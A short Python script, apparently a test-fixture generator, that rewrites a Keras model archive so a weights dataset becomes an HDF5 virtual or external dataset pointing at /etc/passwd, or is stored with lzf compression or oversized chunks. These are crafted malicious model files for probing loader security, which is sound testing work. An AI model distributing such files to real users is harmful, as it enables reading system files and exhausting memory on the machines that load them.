"""Rewrites an archive of Keras so that its first weights lie in a way that is never read.

    hide-weights.py ARCHIVE RESULT virtual|external|lzf|chunks
"""
import io
import sys
import zipfile

import h5py

archive, result, kind = sys.argv[1:]
name = "layers/dense/vars/0"
with zipfile.ZipFile(archive) as file:
    parts = {entry: file.read(entry) for entry in file.namelist()}
weights = io.BytesIO(parts["model.weights.h5"])
with h5py.File(weights, "a") as file:
    values = file[name][()]
    del file[name]
    if kind == "virtual":
        layout = h5py.VirtualLayout(shape=values.shape, dtype="f4")
        layout[:] = h5py.VirtualSource("/etc/passwd", "x", shape=values.shape)
        file.create_virtual_dataset(name, layout)
    elif kind == "external":
        file.create_dataset(
            name, values.shape, "f4", external=[("/etc/passwd", 0, values.nbytes)]
        )
    elif kind == "lzf":
        file.create_dataset(name, data=values, compression="lzf")
    else:
        file.create_dataset(
            name,
            values.shape,
            "f4",
            maxshape=(None, None),
            chunks=(10_000, 20_000),
            compression="gzip",
        )
parts["model.weights.h5"] = weights.getvalue()
with zipfile.ZipFile(result, "w") as file:
    for entry, content in parts.items():
        file.writestr(entry, content)
